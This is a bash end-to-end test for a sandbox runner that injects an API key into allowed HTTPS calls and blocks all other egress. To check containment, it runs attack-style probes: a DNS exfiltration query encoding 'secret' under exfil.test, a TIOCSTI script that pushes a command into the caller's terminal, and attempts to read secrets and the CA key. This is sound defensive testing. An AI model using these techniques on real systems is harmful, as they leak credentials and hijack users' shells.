#!/usr/bin/env bash
# `botbox run -- CMD`, started inside a test-made "host"
# namespace: CMD (uid 1000) reaches the allowed host with the key injected
# (and never sees the key), and nothing else: denied hosts, direct
# connections, UDP, DNS for other names, IPv4 and IPv6. Exit status,
# stdin, signals, hiding of secrets and CA key, and cleanup.
. "$(dirname "$0")/../lib.sh"

run_world
run() { timeout 30 "${RUN[@]}" "$@"; }
curl_in() { run curl -sS --max-time 5 "$@"; }

# ---- the allowed call, key injected, over HTTPS interception ----
# (a caller's own gRPC roots must not reach CMD: they would be the wrong ones)
out=$(GRPC_DEFAULT_SSL_ROOTS_FILE_PATH=/caller/roots.pem run sh -c 'env; curl -sS --max-time 5 https://api.test/echo' 2>&1)
if $PY - "$out" "$SECRET" <<'PY'; then
import json, sys
out, secret = sys.argv[1], sys.argv[2]
body = json.loads(out[out.index('{"method"'):].splitlines()[0])
auth = [v for k, v in body["headers"] if k.lower() == "authorization"]
assert auth == ["Bearer [REDACTED]"], auth  # the echo of the key, redacted
assert secret not in out
env = out[:out.index('{"method"')]
assert secret not in env, "the key is in CMD's environment"
for var in ("SSL_CERT_FILE", "CURL_CA_BUNDLE", "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS",
            "GIT_SSL_CAINFO", "CARGO_HTTP_CAINFO", "DENO_CERT", "GRPC_DEFAULT_SSL_ROOTS_FILE_PATH"):
    assert f"\n{var}=/run/botbox-run/" in "\n" + env, var + " not set"
assert "/caller/roots.pem" not in env, "the caller's gRPC roots reached CMD"
PY
    pass "curl https://api.test/echo: 200, key injected upstream, absent from CMD's env, CA vars set"
else
    fail "curl https://api.test/echo with the key injected" "$out"
fi
check "... the upstream got the key itself" upstream_saw "Bearer $SECRET"
expect "plain http://api.test/ is steered too (injected over verified TLS)" "Bearer [REDACTED]" \
    curl_in http://api.test/echo
expect "python3 urllib trusts the CA through the run's variables" "Bearer [REDACTED]" \
    run $PY -c 'import urllib.request
print(urllib.request.urlopen("https://api.test/echo", timeout=5).read().decode())'
expect "IPv6: curl -6 https://api.test/echo works the same" "Bearer [REDACTED]" \
    curl_in -6 https://api.test/echo
check "... audited as coming from the sandbox's IPv6 address" \
    wait_for 3 grep -q '"event":"http".*"src":"\[fd00:201:0:' "$RUN_AUDIT"

# ---- everything else is refused ----
expect "a name no rule allows does not even resolve" "Could not resolve host" \
    run sh -c 'curl -sS --max-time 5 https://other.test/; exit 0'
expect "a host no rule allows, reached by its address: 403" "403" \
    curl_in -o /dev/null -w '%{http_code}' --resolve "other.test:443:$INET4" https://other.test/
expect "... and over IPv6: 403" "403" \
    curl_in -6 -o /dev/null -w '%{http_code}' --resolve "other.test:443:[$INET6]" https://other.test/
before=$(grep -c '"event": "accept"' "$E2E_TMP/upstream.log")
refute "direct HTTPS to the upstream's IP (--noproxy) fails" \
    curl_in --noproxy '*' -o /dev/null "https://$INET4/echo"
refute "... and over IPv6" curl_in --noproxy '*' -o /dev/null "https://[$INET6]/echo"
check "... the upstream accepted no connection for them" \
    test "$(grep -c '"event": "accept"' "$E2E_TMP/upstream.log")" -eq "$before"
refute "direct TCP to port 22 fails" run $PROBE connect $INET4 22 --timeout 2
refute "... and over IPv6" run $PROBE connect $INET6 22 --timeout 2
refute "UDP fails" run $PROBE udp $INET4 5000 --timeout 1
refute "... and over IPv6" run $PROBE udp $INET6 5000 --timeout 1
check "nothing reached port 22 or the UDP listener" \
    test "$(count ssh)" -eq 0 -a "$(count udp)" -eq 0
expect "DNS for a name no rule allows: NXDOMAIN" "status: NXDOMAIN" \
    run dig +time=2 +tries=1 c2VjcmV0.exfil.test
expect "... also asked of another resolver (redirected to the gateway)" "status: NXDOMAIN" \
    run dig +time=2 +tries=1 @$INET4 c2VjcmV0.exfil.test
check "... which never reached dnsmasq" bash -c "! grep -q exfil $E2E_TMP/dnsmasq.log"
expect "... and asked over IPv6 (the sandbox's second nameserver)" "status: NXDOMAIN" \
    run sh -c 'dig +time=2 +tries=1 @$(awk "/^nameserver .*:/{print \$2}" /etc/resolv.conf) c2VjcmV0.exfil6.test'
expect "DNS for the allowed name answers, AAAA too" "$INET6" run dig +short AAAA api.test
check "the audit file has the allowed request, the denial and the dropped flows" wait_for 3 bash -c "
    grep -q '\"event\":\"http\".*\"decision\":\"allow\".*\"host\":\"api.test\"' $RUN_AUDIT &&
    grep -q '\"decision\":\"deny\".*\"host\":\"other.test\"' $RUN_AUDIT &&
    grep -q '\"event\":\"flow\".*\"dst\":\"$INET4:22\"' $RUN_AUDIT &&
    grep -q '\"event\":\"dns\".*exfil.test' $RUN_AUDIT"
check "no secret in the audit file" bash -c "! grep -q '$SECRET' $RUN_AUDIT"

chmod 700 "$E2E_TMP/secrets"
expect "a root-only secrets_dir: still injected after the gateway's rescans (as proxy_uid)" \
    "Bearer [REDACTED]" run sh -c 'sleep 2.5; curl -sS --max-time 5 https://api.test/echo'
chmod 755 "$E2E_TMP/secrets"

# ---- what CMD cannot touch ----
refute "CMD cannot read the secret (the directory is hidden)" run cat "$E2E_TMP/secrets/api-key"
expect_status "... the secrets directory is closed" 2 "Permission denied" \
    run ls "$E2E_TMP/secrets"
out=$(bash -c "exec 9<'$E2E_TMP/secrets/api-key'; ${RUN[*]} sh -c 'cat <&9; ls /proc/\$\$/fd | tr \"\\n\" \" \"'" 2>&1)
if ! grep -q "$SECRET" <<<"$out" && grep -q "^0 1 2 $" <<<"$out"; then
    pass "a descriptor the caller left open (fd 9 on the key) is closed in CMD: only 0 1 2"
else
    fail "a descriptor the caller left open is closed in CMD" "$out"
fi
out=$(run cat "$E2E_TMP/run.yaml" 2>&1)
check "CMD cannot read the policy file (a literal header value in it would be a key): it reads as empty" \
    test -z "$out"
check "... while it is readable outside the run" grep -q egress_policy "$E2E_TMP/run.yaml"
out=$(run cat "$CA/ca.key" 2>&1)
check "CMD cannot read the CA key" test -z "$out" -o -n "$(grep -i denied <<<"$out")"
refute "nft list ruleset fails for CMD" run nft list ruleset
refute "CMD cannot add a route" run ip route add 10.201.99.0/24 dev eth0
refute "the gateway's metrics are out of reach (its link address)" \
    bash -c "${RUN[*]} sh -c 'curl -sS --max-time 2 http://\$(awk \"/^nameserver/{print \\\$2; exit}\" /etc/resolv.conf):9090/metrics'"
refute "... and on loopback" curl_in --max-time 2 http://127.0.0.1:9090/metrics
expect "CMD runs as the user asked for, with no capabilities" "CapEff:	0000000000000000" \
    run grep CapEff /proc/self/status
refute "CMD cannot regain root (no_new_privs)" run grep -q 'NoNewPrivs:	0' /proc/self/status
as_uid 1000 host sleep 33 &
outside=$!
check "CMD sees only the sandbox's processes (its own PID namespace and /proc)" \
    test "$(run ps -e -o pid=,comm= | tr -s ' \n' ' ')" = " 1 botbox-init 2 ps "
refute "... and cannot signal a process of the same uid outside it" run kill -0 "$outside"
kill "$outside"

# ---- the terminal: CMD cannot type into the caller's shell ----
# script(1) gives botbox run a pseudo-terminal as its controlling terminal,
# as an interactive shell would. TIOCSTI pushes bytes into a terminal's
# input queue (run by that shell after CMD exits, outside the sandbox):
# allowed on one's controlling terminal only (dev.tty.legacy_tiocsti
# permitting), and CMD has none, in a session of its own.
cat >"$E2E_TMP/tiocsti.py" <<'PY'
import fcntl, os, termios
try:
    for b in b"echo INJECTED-BY-SANDBOX\n":
        fcntl.ioctl(0, termios.TIOCSTI, bytes([b]))
    print("TIOCSTI: pushed")
except OSError as e:
    print("TIOCSTI:", os.strerror(e.errno))
PY
chmod 644 "$E2E_TMP/tiocsti.py"
out=$(in_ns host script -qec "${RUN[*]:4} /usr/bin/python3 $E2E_TMP/tiocsti.py" /dev/null </dev/null 2>&1)
check "TIOCSTI on the terminal botbox run was started from: refused in CMD (Operation not permitted)" \
    grep -q "TIOCSTI: Operation not permitted" <<<"$out"
out=$(printf 'typed line\n' | in_ns host script -qec "${RUN[*]:4} sh -c 'test -t 0 && echo stdin is a terminal; read l; echo read: \$l'" /dev/null 2>&1)
check "... while CMD still uses the terminal: stdin is one, and what is typed reaches it" \
    bash -c "grep -q 'stdin is a terminal' <<<\"\$1\" && grep -q 'read: typed line' <<<\"\$1\"" _ "$out"

# ---- exit status, stdio, errors ----
expect_status "sh -c 'exit 7' exits 7" 7 "" run sh -c 'exit 7'
expect_status "a CMD killed by SIGKILL: 137" 137 "" run sh -c 'kill -9 $$'
expect_status "a CMD that does not exist: 127" 127 "no-such-command" run no-such-command
check "stdin reaches CMD, stdout comes back" \
    bash -c "test \"\$(echo through | ${RUN[*]} cat)\" = through"
expect_status "root is refused as CMD's user" 125 "refusing to run CMD as root" \
    ip netns exec "${NS[host]}" "$BIN" run --config "$E2E_TMP/run.yaml" --user root -- true
expect_status "a public range is refused" 125 "not a private range" \
    ip netns exec "${NS[host]}" "$BIN" run --config "$E2E_TMP/run.yaml" --net4 8.8.0.0/16 -- true
check "after all of these, nothing is left behind" test -z "$(run_leftovers)"

# ---- signals ----
bg host sigrun "${RUN[@]}" sh -c 'echo started; trap "echo got INT; exit 3" INT; sleep 30.1 & wait'
runpid=$BG_PID
wait_for 10 grep -q started "$E2E_TMP/sigrun.out"
check "while it runs, its two namespaces exist" bash -c \
    "ip netns list | grep -q 'botbox-run-$runpid\$' && ip netns list | grep -q botbox-run-$runpid-gw"
check "... and, without flows rules, the host has nothing of it" test -z "$(host_leftovers)"
kill -INT "$runpid"
wait "$runpid"
rc=$?
check "SIGINT to botbox run reaches CMD, whose status is returned (3)" test "$rc" -eq 3
check "... CMD saw it" grep -q "got INT" "$E2E_TMP/sigrun.out"
check "... and nothing is left" test -z "$(run_leftovers)"

bg host killrun "${RUN[@]}" sh -c 'echo started; sleep 30.2 & sleep 30.2 & wait'
runpid=$BG_PID
wait_for 10 grep -q started "$E2E_TMP/killrun.out"
kill -TERM "$runpid"
wait "$runpid"
rc=$?
check "SIGTERM to botbox run ends CMD (143)" test "$rc" -eq 143
check "... its background jobs too" test -z "$(pgrep -fx 'sleep 30.2')"
check "... and nothing is left" test -z "$(run_leftovers)"

bg host gwdeath "${RUN[@]}" sh -c 'echo started; exec sleep 32.1'
runpid=$BG_PID
wait_for 10 grep -q started "$E2E_TMP/gwdeath.out"
kill -9 "$(pgrep -o -P "$runpid" -x botbox)" # the gateway (the sandbox's init is botbox-init)
wait "$runpid"
rc=$?
check "the gateway killed under CMD: CMD is stopped, botbox run exits 125 and says why" \
    bash -c "test $rc -eq 125 && grep -q 'the gateway stopped' $E2E_TMP/gwdeath.out &&
             ! pgrep -fx 'sleep 32.1' >/dev/null"
check "... and nothing is left" test -z "$(run_leftovers)"

# ---- a policy edited during the run applies to it ----
mkdir -m 1777 "$E2E_TMP/drop"
chmod 644 "$E2E_TMP/run.yaml"
bg host reloadrun "${RUN[@]}" sh -c "
    echo first: \$(curl -sS --max-time 5 -o /dev/null -w '%{http_code}' --resolve other.test:443:$INET4 https://other.test/)
    for i in \$(seq 100); do [ -e $E2E_TMP/drop/go ] && break; sleep 0.1; done
    echo second: \$(curl -sS --max-time 5 -o /dev/null -w '%{http_code}' https://other.test/)"
runpid=$BG_PID
wait_for 10 grep -q '^first:' "$E2E_TMP/reloadrun.out"
cp "$E2E_TMP/run.yaml" "$E2E_TMP/run.yaml.orig"
printf '    - {host: other.test, action: allow, allow_private: true}\n' >>"$E2E_TMP/run.yaml"
wait_for 5 grep -q '"event":"config","decision":"allow","reason":"reloaded"' "$RUN_AUDIT"
touch "$E2E_TMP/drop/go"
wait "$runpid"
check "editing the policy during a run: other.test goes from 403 to allowed (DNS too)" \
    bash -c "grep -q '^first: 403' $E2E_TMP/reloadrun.out && grep -q '^second: 200' $E2E_TMP/reloadrun.out"
mv "$E2E_TMP/run.yaml.orig" "$E2E_TMP/run.yaml"

# ---- flows: raw forwarding, only what the rules name ----
cp "$E2E_TMP/run.yaml" "$E2E_TMP/flows.yaml"
cat >>"$E2E_TMP/flows.yaml" <<YAML
  flows:
    - {proto: tcp, cidr: $INET4/32, ports: [22]}
    - {proto: udp, cidr: "fd00:201:70::/64", ports: [5000]}
YAML
FLOWS=("${RUN[@]}")
FLOWS[7]=$E2E_TMP/flows.yaml
check "without flows rules the host's forwarding stayed off" \
    test "$(in_ns host sysctl -n net.ipv4.ip_forward)" = 0
out=$(timeout 30 "${FLOWS[@]}" sh -c "
    $PROBE connect $INET4 22 --timeout 3 && $PROBE udp $INET6 5000 --timeout 2 &&
    ! $PROBE udp $INET4 5000 --timeout 1 && ! $PROBE connect $INET6 22 --timeout 1 &&
    ip -n ${NS[host]} -br link 2>/dev/null; echo done" 2>&1)
check "a flows rule lets tcp/22 and udp/5000 (IPv6) through, and nothing more" \
    grep -q '^done' <<<"$out"
check "... the upstream saw them from the host's address (masqueraded twice)" \
    bash -c "grep -q '\"peer\": \"10.201.70.1:' $E2E_TMP/ssh.log &&
             grep -q '\"peer\": \"\[fd00:201:70::1\]' $E2E_TMP/udp.log"
check "... audited as allowed flows" wait_for 3 grep -q '"event":"flow","decision":"allow"' "$RUN_AUDIT"
check "... and afterwards the host's forwarding is off again, nothing left" \
    bash -c "test \"\$(ip netns exec ${NS[host]} sysctl -n net.ipv4.ip_forward)\" = 0" 
check "... nothing left" test -z "$(run_leftovers)"
bg host flowrun "${FLOWS[@]}" sh -c 'sleep 31.1 & echo started; exec sleep 31.1'
runpid=$BG_PID
wait_for 10 grep -q started "$E2E_TMP/flowrun.out"
check "with flows, the host holds the run's link, its table and forwarding while it runs" bash -c \
    "ip -n ${NS[host]} link show bbr$runpid >/dev/null &&
     ip netns exec ${NS[host]} nft list table inet botbox_run_$runpid >/dev/null &&
     test \"\$(ip netns exec ${NS[host]} sysctl -n net.ipv4.ip_forward)\" = 1"
kill -9 "$runpid"
wait "$runpid" 2>/dev/null
check "SIGKILL to botbox run: the kernel still drops its table (socket-owned)" \
    wait_for 3 bash -c "! ip netns exec ${NS[host]} nft list tables | grep -q botbox_run"
check "... CMD and its background job die with it (the sandbox's init has a parent-death signal)" \
    wait_for 3 bash -c "! pgrep -fx 'sleep 31.1' >/dev/null"
check "... the gateway too" wait_for 5 bash -c "! pgrep -f '[r]un --config $E2E_TMP/flows.yaml' >/dev/null"
check "... and the next run sweeps the names it left" bash -c "${RUN[*]} true; ! ip netns list | grep -q botbox-run-$runpid"
check "... after which the link has gone with its namespace" \
    wait_for 3 bash -c "! ip -n ${NS[host]} link show bbr$runpid 2>/dev/null"
in_ns host sysctl -qw net.ipv4.ip_forward=0 net.ipv6.conf.all.forwarding=0

# ---- two runs at once ----
run sh -c 'sleep 1; curl -sS --max-time 5 https://api.test/echo' >"$E2E_TMP/one.out" 2>&1 &
one=$!
run sh -c 'sleep 1; curl -sS --max-time 5 https://api.test/echo' >"$E2E_TMP/two.out" 2>&1 &
two=$!
wait $one
rc1=$?
wait $two
rc2=$?
check "two runs at once both succeed" bash -c "test $rc1 -eq 0 -a $rc2 -eq 0 &&
    grep -qF 'Bearer [REDACTED]' $E2E_TMP/one.out && grep -qF 'Bearer [REDACTED]' $E2E_TMP/two.out"
check "... and leave nothing" test -z "$(run_leftovers)"
out=$(run sh -c 'curl -sS --max-time 5 -o /dev/null https://api.test/echo; exit 3' 2>&1)
check "no sanitizer report from botbox run, its gateway, or any run above (SAN=1)" \
    bash -c "! grep -qE 'Sanitizer|runtime error' - $E2E_TMP/*.out <<<\"\$1\"" _ "$out"
finish
